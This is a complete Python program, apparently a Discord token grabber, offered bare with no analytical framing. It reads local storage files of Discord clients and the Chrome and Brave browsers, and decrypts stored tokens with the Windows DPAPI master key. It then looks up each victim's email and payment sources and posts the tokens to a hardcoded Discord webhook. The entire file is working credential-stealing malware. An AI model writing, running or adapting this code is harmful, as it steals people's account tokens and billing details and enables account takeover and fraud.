import os
import re
import json
import base64

import requests
from Crypto.Cipher import AES
from win32crypt import CryptUnprotectData

WEBHOOK = 'https://discord.com/api/webhooks/4629494327592048212/-ievSoO6I0vqQR83BnCH_MseGWSK35NcEFBQ6kkBwGkm0VsV9oKo4GmaB-rPzCt3uoHq'

LOCAL = os.getenv('LOCALAPPDATA')
ROAMING = os.getenv('APPDATA')
PATHS = {
    'Discord': ROAMING + '\\discord',
    'Discord Canary': ROAMING + '\\discordcanary',
    'Lightcord': ROAMING + '\\Lightcord',
    'Chrome': LOCAL + '\\Google\\Chrome\\User Data\\Default',
    'Brave': LOCAL + '\\BraveSoftware\\Brave-Browser\\User Data\\Default',
}


def master_key(path):
    with open(path + '\\Local State', 'r', encoding='utf-8') as f:
        key = json.loads(f.read())['os_crypt']['encrypted_key']
    return CryptUnprotectData(base64.b64decode(key)[5:], None, None, None, 0)[1]


def decrypt(buff, key):
    iv, payload = buff[3:15], buff[15:]
    return AES.new(key, AES.MODE_GCM, iv).decrypt(payload)[:-16].decode()


def grab():
    tokens = []
    for name, path in PATHS.items():
        leveldb = path + '\\Local Storage\\leveldb'
        if not os.path.exists(leveldb):
            continue
        for file in os.listdir(leveldb):
            if not file.endswith(('.log', '.ldb')):
                continue
            for line in open(f'{leveldb}\\{file}', errors='ignore').readlines():
                for value in re.findall(r'dQw4w9WgXcQ:[^"]*', line):
                    tokens.append(decrypt(base64.b64decode(value.split('dQw4w9WgXcQ:')[1]), master_key(path)))
                for value in re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', line):
                    tokens.append(value)
    return set(tokens)


def send(tokens):
    for t in tokens:
        me = requests.get('https://discord.com/api/v9/users/@me', headers={'Authorization': t}).json()
        billing = requests.get('https://discord.com/api/v9/users/@me/billing/payment-sources', headers={'Authorization': t}).json()
        embed = {'title': me.get('username'), 'description': f'```{t}```', 'fields': [{'name': 'Email', 'value': str(me.get('email'))}, {'name': 'Billing', 'value': str(bool(billing))}]}
        requests.post(WEBHOOK, json={'embeds': [embed], 'username': 'grabber'})


if __name__ == '__main__':
    send(grab())
